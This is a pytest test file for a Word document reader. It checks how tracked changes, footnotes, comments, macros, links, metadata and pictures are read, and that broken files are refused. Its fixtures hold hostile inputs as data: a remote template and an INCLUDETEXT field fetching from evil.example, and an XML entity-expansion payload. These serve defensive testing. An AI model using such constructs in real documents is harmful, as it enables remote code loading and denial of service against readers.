"""Reads Word files as a whole: changes, notes, comments, links, properties, pictures; refuses broken ones."""

from __future__ import annotations

import pytest
from PIL import Image

from generator.readers.document import Paragraph, Unreadable
from generator.readers.docx import read
from tests.readers.samples import LIMITS, rules, texts, zipped
from tests.readers.word_samples import WML, drawn, p, picture, relations, word


def test_tracked_changes_are_read_as_accepted_and_reported() -> None:
    run = (
        '<w:p><w:r><w:t>收到</w:t></w:r><w:del w:id="1"><w:r><w:delText>20</w:delText></w:r></w:del>'
        '<w:ins w:id="2"><w:r><w:t>22</w:t></w:r></w:ins><w:r><w:t>件</w:t></w:r></w:p>'
    )
    moved = (
        "<w:p><w:moveFrom><w:r><w:t>旧处</w:t></w:r></w:moveFrom><w:moveTo><w:r><w:t>新处</w:t></w:r></w:moveTo></w:p>"
    )
    document = read(word(run + moved), "示例.docx", LIMITS)
    assert texts(document) == ["收到22件", "新处"]
    (finding,) = [finding for finding in document.findings if finding.rule == "IMP-TRACKED"]
    assert "插入2处、删除2处" in finding.message.zh and "“20”" in finding.message.zh and "“22”" in finding.message.zh
    assert finding.place.file == "示例.docx"


def test_footnotes_move_to_the_end() -> None:
    notes = f'<w:footnotes {WML}><w:footnote w:id="2">{p("口径说明")}</w:footnote></w:footnotes>'
    data = word(
        '<w:p><w:r><w:t>22件</w:t></w:r><w:r><w:footnoteReference w:id="2"/></w:r></w:p>',
        {"word/footnotes.xml": notes},
        [("f", "footnotes", "footnotes.xml", False)],
    )
    document = read(data, "a.docx", LIMITS)
    assert texts(document) == ["22件〔注1〕", "〔注1〕口径说明"] and "IMP-FOOTNOTE" in rules(document)


def test_comments_macros_embedded_objects_links_headers_and_properties() -> None:
    core = (
        '<cp:coreProperties xmlns:cp="c" xmlns:dc="http://purl.org/dc/elements/1.1/">'
        "<dc:title>示例局年报</dc:title><dc:creator>示例甲</dc:creator></cp:coreProperties>"
    )
    app = "<Properties><Company>示例局</Company><Template>\\\\server\\示例.dotm</Template></Properties>"
    data = word(
        p("正文")
        + "<w:p><w:r><w:object><v:shape><v:imagedata r:id='i'/></v:shape><o:OLEObject/></w:object></w:r></w:p>",
        {
            "word/comments.xml": f"<w:comments {WML}><w:comment>{p('请核实此数')}</w:comment></w:comments>",
            "word/vbaProject.bin": b"\0",
            "word/embeddings/Workbook1.xlsx": b"PK",
            "docProps/core.xml": core,
            "docProps/app.xml": app,
            "word/header1.xml": f"<w:hdr {WML}>{p('内部资料 不得外传')}</w:hdr>",
            "word/footer1.xml": f"<w:ftr {WML}>{p('第 1 页 共 9 页')}</w:ftr>",
            "word/settings.xml": "<settings/>",
            "word/_rels/settings.xml.rels": relations(("t", "attachedTemplate", "http://evil.example/x.dotm", True)),
        },
        [
            ("c", "comments", "comments.xml", False),
            ("h", "header", "header1.xml", False),
            ("f", "footer", "footer1.xml", False),
            ("i", "image", "http://evil.example/p.png", True),
        ],
    )
    document = read(data, "示例.docm", LIMITS)
    assert texts(document) == ["正文"] and document.properties["title"] == "示例局年报"
    messages = {finding.rule: finding.message.zh for finding in document.findings}
    assert "请核实此数" in messages["IMP-COMMENT"] and "vbaProject" in messages["IMP-MACRO"]
    assert "http://evil.example/x.dotm" in messages["IMP-LINK"] and "http://evil.example/p.png" in messages["IMP-LINK"]
    assert "内部资料" in messages["IMP-HEADER"] and "页" not in messages["IMP-HEADER"].replace("页眉、页脚", "")
    assert "示例甲" in messages["IMP-META"] and "示例局" in messages["IMP-META"] and "dotm" in messages["IMP-META"]
    assert next(finding.message.zh for finding in document.findings if finding.rule == "IMP-EMBEDDED").startswith(
        "没有读入：对象"
    )


def test_fields_that_fetch_are_reported_and_imported_parts_are_not_read() -> None:
    field = '<w:fldSimple w:instr=" INCLUDETEXT http://evil.example/x.docx "><w:r><w:t>旧文</w:t></w:r></w:fldSimple>'
    xml = f'<w:p>{field}</w:p><w:altChunk r:id="x"/>'
    document = read(word(xml), "a.docx", LIMITS)
    assert texts(document) == ["旧文"] and {"IMP-LINK", "IMP-EMBEDDED"} <= rules(document)


def test_pictures_are_named_in_order_and_lose_their_metadata() -> None:
    exif = Image.Exif()
    exif[0x010F] = "Example camera"
    jpeg = picture("JPEG", exif=exif)
    parts: dict[str, str | bytes] = {
        "word/media/image7.jpeg": jpeg,
        "word/media/image1.png": picture("PNG"),
        "word/media/x.emf": b"\1\0\0\0emf",
    }
    data = word(
        f"<w:p>{drawn('j', '会议现场')}{drawn('g')}{drawn('j')}{drawn('e')}</w:p>",
        parts,
        [
            ("j", "image", "media/image7.jpeg", False),
            ("g", "image", "media/image1.png", False),
            ("e", "image", "media/x.emf", False),
        ],
    )
    document = read(data, "a.docx", LIMITS)
    assert [(picture.name, picture.alt) for picture in document.pictures] == [("图1.jpg", "会议现场"), ("图2.png", "")]
    (block,) = document.blocks
    assert isinstance(block, Paragraph)
    assert [piece.picture for piece in block.pieces] == ["图1.jpg", "图2.png", "图1.jpg"]
    assert b"Example camera" in jpeg and b"Example camera" not in document.pictures[0].data
    assert {"IMP-EXIF", "IMP-PICTURE"} <= rules(document)


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"PK",
        b"PK\3\4" + b"\0" * 80,
        word("")[:300],
        zipped({"word/document.xml": "<w:document"}),
        zipped({"x": "y"}),
    ],
)
def test_broken_files_are_refused_with_a_sentence(data: bytes) -> None:
    with pytest.raises(Unreadable) as refused:
        read(data, "a.docx", LIMITS)
    assert "文件" in refused.value.message.zh


def test_entities_are_refused() -> None:
    laughs = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><document><body>&b;</body></document>'
    for text in (laughs, laughs.encode("utf-16")):
        with pytest.raises(Unreadable, match="entities"):
            read(zipped({"word/document.xml": text}), "a.docx", LIMITS)
